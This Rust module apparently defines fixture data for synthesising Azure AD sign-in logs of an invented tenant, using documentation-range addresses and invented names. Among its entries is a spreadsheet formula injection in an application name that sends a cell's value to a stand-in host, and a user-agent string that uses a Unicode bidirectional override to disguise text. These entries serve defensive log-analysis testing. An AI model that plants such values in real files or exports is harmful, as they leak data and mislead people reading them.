//! What the tenant is made of: places, networks, devices, applications, outcomes, names.
//!
//! Addresses are from the documentation ranges of RFC 5737 and RFC 3849, autonomous systems from RFC 5398, domains
//! reserved. People are invented. Each table is indexed by position from the compact rows of `records`.

use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

/// The domain of the tenant.
pub(super) const DOMAIN: &str = "contoso.example";
/// Where the guests come from.
pub(super) const GUEST_DOMAIN: &str = "fabrikam.example";

/// A city where people work, travel to, or where an attacker's traffic leaves the network.
#[derive(Debug)]
pub(super) struct Place {
    pub city: &'static str,
    pub state: &'static str,
    pub country: &'static str,
    pub latitude: f64,
    pub longitude: f64,
    /// Hours ahead of UTC, whole, without daylight saving.
    pub offset: i64,
}

const fn place(
    city: &'static str,
    state: &'static str,
    country: &'static str,
    latitude: f64,
    longitude: f64,
    offset: i64,
) -> Place {
    Place { city, state, country, latitude, longitude, offset }
}

/// The first [`OFFICES`] have an office of the tenant.
pub(super) static PLACES: [Place; 18] = [
    place("Utrecht", "Utrecht", "NL", 52.0907, 5.1214, 1),
    place("Graz", "Steiermark", "AT", 47.0707, 15.4395, 1),
    place("Leeds", "England", "GB", 53.8008, -1.5491, 0),
    place("Columbus", "Ohio", "US", 39.9612, -82.9988, -5),
    place("Pune", "Maharashtra", "IN", 18.5204, 73.8567, 5),
    place("Curitiba", "Parana", "BR", -25.4284, -49.2733, -3),
    place("Groningen", "Groningen", "NL", 53.2194, 6.5665, 1),
    place("Dayton", "Ohio", "US", 39.7589, -84.1916, -5),
    place("Singapore", "Singapore", "SG", 1.3521, 103.8198, 8),
    place("Frankfurt am Main", "Hessen", "DE", 50.1109, 8.6821, 1),
    place("Dubai", "Dubai", "AE", 25.2048, 55.2708, 4),
    place("Osaka", "Osaka", "JP", 34.6937, 135.5023, 9),
    place("Chisinau", "Chisinau", "MD", 47.0105, 28.8638, 2),
    place("Lagos", "Lagos", "NG", 6.5244, 3.3792, 1),
    place("Panama City", "Panama", "PA", 8.9824, -79.5199, -5),
    place("Reykjavik", "Hofudborgarsvaedi", "IS", 64.1466, -21.9426, 0),
    place("Almaty", "Almaty", "KZ", 43.2220, 76.8512, 5),
    place("Da Nang", "Da Nang", "VN", 16.0544, 108.2022, 7),
];
/// How many of [`PLACES`] have an office.
pub(super) const OFFICES: usize = 6;

/// Where a network takes its addresses from.
#[derive(Clone, Copy, Debug)]
pub(super) enum Block {
    /// The n-th /27 of the three documentation networks of RFC 5737: 0 to 23.
    Four(u8),
    /// The n-th /48 of `2001:db8::/32`.
    Six(u16),
}

/// A network, known by its autonomous system.
#[derive(Debug)]
pub(super) struct Network {
    pub number: u32,
    pub place: u8,
    pub block: Block,
    /// The named location it belongs to; trusted ones are marked so in Graph.
    pub named: Option<(&'static str, bool)>,
}

const fn network(number: u32, place: u8, block: Block) -> Network {
    Network { number, place, block, named: None }
}

const fn named(number: u32, place: u8, block: Block, name: &'static str, trusted: bool) -> Network {
    Network { number, place, block, named: Some((name, trusted)) }
}

/// Offices, then homes, then mobile carriers, then the rest, as the constants below say.
pub(super) static NETWORKS: [Network; 32] = [
    named(64496, 0, Block::Four(0), "Headquarters", true),
    named(64496, 1, Block::Four(1), "Branch offices", false),
    named(64497, 2, Block::Four(2), "Branch offices", false),
    named(64498, 3, Block::Four(3), "Branch offices", false),
    named(64499, 4, Block::Six(0x20), "Branch offices", false),
    named(64499, 5, Block::Four(4), "Branch offices", false),
    // Homes, one a place with an office.
    network(64500, 0, Block::Six(0x41)),
    network(64501, 1, Block::Four(5)),
    network(64502, 2, Block::Six(0x42)),
    network(64503, 3, Block::Six(0x43)),
    network(64504, 4, Block::Four(6)),
    network(64505, 5, Block::Four(7)),
    // Mobile carriers, one a place with an office.
    network(64506, 0, Block::Six(0x61)),
    network(64506, 1, Block::Six(0x62)),
    network(64507, 2, Block::Four(8)),
    network(64508, 3, Block::Six(0x63)),
    network(64509, 4, Block::Six(0x64)),
    network(64510, 5, Block::Four(9)),
    // A new way out for whole offices: nobody has named these locations yet.
    network(65536, 9, Block::Four(10)),
    network(65537, 7, Block::Four(11)),
    // On the road: airports, hotels, a roaming hub.
    network(65538, 8, Block::Four(12)),
    network(65539, 10, Block::Four(13)),
    network(65540, 11, Block::Six(0x81)),
    network(65541, 6, Block::Six(0x82)),
    // Hosting, anonymizers, rented proxies: where attacks come from.
    network(65542, 12, Block::Four(14)),
    network(65543, 13, Block::Four(15)),
    network(65544, 14, Block::Four(16)),
    network(65545, 15, Block::Four(17)),
    network(65546, 16, Block::Six(0xa1)),
    network(65547, 17, Block::Four(18)),
    network(65548, 12, Block::Four(19)),
    network(65549, 15, Block::Six(0xa2)),
];
pub(super) const HOME: u8 = 6;
pub(super) const MOBILE: u8 = 12;
pub(super) const NEW_EGRESS: [u8; 2] = [18, 19];
pub(super) const TRAVEL: [u8; 3] = [20, 21, 22];
pub(super) const ROAMING_HUB: u8 = 23;
pub(super) const ATTACK: [u8; 8] = [24, 25, 26, 27, 28, 29, 30, 31];

impl Network {
    /// The address of a host in this network; the same host has the same address.
    pub(super) fn address(&self, host: u32) -> IpAddr {
        match self.block {
            Block::Four(slice) => {
                const BASES: [[u8; 3]; 3] = [[192, 0, 2], [198, 51, 100], [203, 0, 113]];
                let [a, b, c] = BASES[usize::from(slice / 8) % BASES.len()];
                // A /27 has 30 usable hosts.
                let last = (slice % 8) * 32 + 1 + (host % 30) as u8;
                IpAddr::V4(Ipv4Addr::new(a, b, c, last))
            }
            Block::Six(site) => {
                let subnet = (host >> 8) as u16 & 0xff;
                let low = (host & 0xff) as u16;
                IpAddr::V6(Ipv6Addr::new(0x2001, 0xdb8, site, subnet, 0, 0, 0, 0x10 + low))
            }
        }
    }
}

/// A kind of device and the browser or client on it.
#[derive(Debug)]
pub(super) struct Profile {
    pub system: &'static str,
    pub browser: &'static str,
    pub user_agent: &'static str,
    /// What its name begins with; empty for what is never registered.
    pub prefix: &'static str,
    pub trust: &'static str,
    pub managed: bool,
}

const fn profile(
    system: &'static str,
    browser: &'static str,
    user_agent: &'static str,
    prefix: &'static str,
    trust: &'static str,
    managed: bool,
) -> Profile {
    Profile { system, browser, user_agent, prefix, trust, managed }
}

const JOINED: &str = "Azure AD joined";
const HYBRID: &str = "Hybrid Azure AD joined";
const REGISTERED: &str = "Azure AD registered";

/// Laptops, then phones, then what attackers use, as the constants below say.
pub(super) static PROFILES: [Profile; 13] = [
    profile(
        "Windows11",
        "Edge 141.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0",
        "CTS-LT-",
        JOINED,
        true,
    ),
    profile(
        "Windows10",
        "Chrome 141.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Safari/537.36",
        "CTS-WS-",
        HYBRID,
        true,
    ),
    profile(
        "MacOs",
        "Safari 18.6",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
        "CTS-MB-",
        REGISTERED,
        true,
    ),
    profile(
        "Ios 18.6",
        "Mobile Safari",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
        "PHONE-I-",
        REGISTERED,
        false,
    ),
    profile(
        "Android 15",
        "Chrome Mobile 141.0",
        "Mozilla/5.0 (Linux; Android 15) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/141.0.0.0 Mobile Safari/537.36",
        "PHONE-A-",
        REGISTERED,
        true,
    ),
    profile(
        "Android 16",
        "Chrome Mobile 142.0",
        "Mozilla/5.0 (Linux; Android 16) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/142.0.0.0 Mobile Safari/537.36",
        "PHONE-N-",
        REGISTERED,
        false,
    ),
    profile(
        "Linux",
        "Firefox 128.0",
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "",
        "",
        false,
    ),
    profile(
        "Windows10",
        "Chrome 109.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/109.0.0.0 Safari/537.36",
        "",
        "",
        false,
    ),
    profile("", "Rich Client 4.0", "BAV2ROPC", "", "", false),
    profile("", "", "python-requests/2.32", "", "", false),
    profile(
        "Windows11",
        "Edge 141.0.0",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/141.0.0.0 Edg/141.0.0.0",
        "",
        "",
        false,
    ),
    profile("MacOs", "Chrome 120.0.0", "axios/1.7.9", "", "", false),
    // A bidirectional override: shown raw, the text after it reads backwards.
    profile(
        "Linux",
        "Chrome 130.0.0",
        "Mozilla/5.0 \u{202e}gpj.tnemyap\u{202c} (X11; Linux x86_64)\u{200b}",
        "",
        "",
        false,
    ),
];
pub(super) const PHONES: [u8; 2] = [3, 4];
pub(super) const NEW_PHONE: u8 = 5;
pub(super) const LAPTOPS: u8 = 3;
pub(super) const UNKNOWN_LINUX: u8 = 6;
pub(super) const UNKNOWN_WINDOWS: u8 = 7;
pub(super) const LEGACY_CLIENT: u8 = 8;
pub(super) const SCRIPT: u8 = 9;
pub(super) const PHISHING_PROXY: u8 = 11;
pub(super) const HOSTILE_AGENT: u8 = 12;

/// An application a user signs in to.
#[derive(Debug)]
pub(super) struct App {
    pub name: &'static str,
    pub id: &'static str,
    /// Index into [`RESOURCES`].
    pub resource: u8,
    pub client: &'static str,
}

const fn app(name: &'static str, id: &'static str, resource: u8, client: &'static str) -> App {
    App { name, id, resource, client }
}

const BROWSER: &str = "Browser";
const RICH: &str = "Mobile Apps and Desktop clients";

/// Everyday applications first.
pub(super) static APPS: [App; 12] = [
    app("Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000", 1, BROWSER),
    app("Microsoft Teams", "1fec8e78-bce4-4aaf-ab1b-5451cc387264", 0, RICH),
    app("Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000", 2, BROWSER),
    app("Travel and Expenses", "6b1f0d7c-2a94-4c1e-9d35-8e70fa41b201", 3, BROWSER),
    app("Time Sheets", "0f84c2b5-71de-4b0a-a6c9-3d15e92f7702", 3, BROWSER),
    app("Service Desk", "d93a5e10-4c7b-4f62-8e0d-b1a6720c9403", 3, BROWSER),
    app("Plant Telemetry", "2e7bd640-93f1-4da8-b05c-64c8f1a0e504", 3, RICH),
    app("Microsoft Azure CLI", "5a0c9e37-d184-4e2b-97f6-20b4cd8e1905", 4, RICH),
    app("Azure Portal", "c44b4083-3bb0-49c1-b47d-974e53cbdf3c", 4, BROWSER),
    app("Authenticated SMTP", "8c60f1d2-5e3a-4b97-a1c4-d07e92b63806", 1, "Authenticated SMTP"),
    app("Microsoft Authentication Broker", "f17d2b80-6ac5-49e3-8b0f-9c54e1d7a307", 0, RICH),
    // A spreadsheet would run this.
    app(
        "=HYPERLINK(\"https://example.invalid/?\"&A1,\"Payroll\")",
        "a4e8c1f0-0b6d-4d3f-9e27-51b8d2c7f608",
        0,
        BROWSER,
    ),
];
pub(super) const EVERYDAY: u8 = 7;
pub(super) const MAIL: u8 = 0;
pub(super) const TEAMS: u8 = 1;
pub(super) const FILES: u8 = 2;
pub(super) const COMMAND_LINE: u8 = 7;
pub(super) const PORTAL: u8 = 8;
pub(super) const SMTP: u8 = 9;
pub(super) const BROKER: u8 = 10;
pub(super) const HOSTILE_APP: u8 = 11;

/// What an application asks a token for: name and application id.
pub(super) static RESOURCES: [(&str, &str); 5] = [
    ("Microsoft Graph", "00000003-0000-0000-c000-000000000000"),
    ("Office 365 Exchange Online", "00000002-0000-0ff1-ce00-000000000000"),
    ("Office 365 SharePoint Online", "00000003-0000-0ff1-ce00-000000000000"),
    ("Contoso Line of Business", "b8d04e6f-a1c3-47f5-92e8-0c7d6b5a4e01"),
    ("Windows Azure Service Management API", "797f4846-ba00-4fd7-ba43-dac1f8f63013"),
];

/// How a sign-in ended.
#[derive(Debug)]
pub(super) struct Outcome {
    pub code: i64,
    pub reason: &'static str,
    pub more: Option<&'static str>,
    /// Conditional Access as a whole.
    pub access: &'static str,
}

const fn outcome(
    code: i64,
    reason: &'static str,
    more: Option<&'static str>,
    access: &'static str,
) -> Outcome {
    Outcome { code, reason, more, access }
}

pub(super) static OUTCOMES: [Outcome; 7] = [
    outcome(0, "Other.", None, "success"),
    outcome(0, "Other.", Some("MFA requirement satisfied by claim in the token"), "success"),
    outcome(0, "Other.", Some("MFA completed in Azure AD"), "success"),
    outcome(50126, "Error validating credentials due to invalid username or password.", None, "notApplied"),
    outcome(50074, "Strong Authentication is required.", None, "failure"),
    outcome(
        500_121,
        "Authentication failed during strong authentication request.",
        Some("MFA denied; user declined the authentication"),
        "failure",
    ),
    outcome(
        53003,
        "Access has been blocked by Conditional Access policies. The access policy does not allow token issuance.",
        None,
        "failure",
    ),
];
pub(super) const SUCCESS: u8 = 0;
pub(super) const MFA_BY_CLAIM: u8 = 1;
pub(super) const MFA_DONE: u8 = 2;
pub(super) const WRONG_PASSWORD: u8 = 3;
pub(super) const MFA_WANTED: u8 = 4;
pub(super) const MFA_DENIED: u8 = 5;
pub(super) const BLOCKED: u8 = 6;

pub(super) static FIRST_NAMES: [&str; 56] = [
    "Adila", "Alrik", "Amaro", "Anouk", "Arvid", "Basma", "Bram", "Calla", "Cyrus", "Dagny", "Davor",
    "Delia", "Edda", "Elio", "Enis", "Fenna", "Fadil", "Gitta", "Gorka", "Hedda", "Hamid", "Ilka", "Imre",
    "Isolde", "Jarle", "Jomana", "Kaito", "Kirsi", "Lamar", "Leonie", "Lujain", "Maarit", "Milo", "Mirjam",
    "Nadim", "Noelia", "Odile", "Orson", "Paloma", "Pelle", "Quirin", "Rania", "Ravi", "Renske", "Saverio",
    "Signe", "Suda", "Tamsin", "Tariq", "Ulla", "Valdis", "Vidya", "Wessel", "Xenia", "Yara", "Zoran",
];
pub(super) static LAST_NAMES: [&str; 60] = [
    "Abellard",
    "Aldersby",
    "Anquetil",
    "Bakkema",
    "Barrowe",
    "Bellwin",
    "Brandvoll",
    "Calderas",
    "Castrene",
    "Cheroux",
    "Dahlvik",
    "Dervaan",
    "Doukari",
    "Eikmans",
    "Elvestad",
    "Farrokh",
    "Fenstra",
    "Fjeldahl",
    "Galbrun",
    "Gerritse",
    "Gunavel",
    "Haldane",
    "Hjortsberg",
    "Holtrop",
    "Ibarren",
    "Ishimoto",
    "Jelavec",
    "Jorvald",
    "Kadiri",
    "Kerrigan",
    "Kolvenbach",
    "Lantinga",
    "Lisboane",
    "Lundmark",
    "Macavoy",
    "Marchetto",
    "Mborane",
    "Nakatori",
    "Nieveld",
    "Nordqvist",
    "Obermark",
    "Okonjo",
    "Ostrava",
    "Padmanab",
    "Pellerin",
    "Quintero",
    "Radovan",
    "Rasmund",
    "Sandoval",
    "Sevrin",
    "Solberge",
    "Tavares",
    "Thornbury",
    "Ullmark",
    "Vandervelt",
    "Vasilak",
    "Wexcombe",
    "Yamazato",
    "Zandstra",
    "Zelinka",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn addresses_and_systems_are_reserved_for_documentation() {
        for network in &NETWORKS {
            assert!(
                (64496..=64511).contains(&network.number) || (65536..=65551).contains(&network.number),
                "{} is a real autonomous system",
                network.number
            );
            for host in [0, 29, 30, 255, 4_000_000_000] {
                match network.address(host) {
                    IpAddr::V4(address) => assert!(address.is_documentation(), "{address}"),
                    IpAddr::V6(address) => assert_eq!(&address.segments()[..2], &[0x2001, 0xdb8]),
                }
            }
            assert!(usize::from(network.place) < PLACES.len());
        }
        for app in &APPS {
            assert!(usize::from(app.resource) < RESOURCES.len());
        }
    }
}
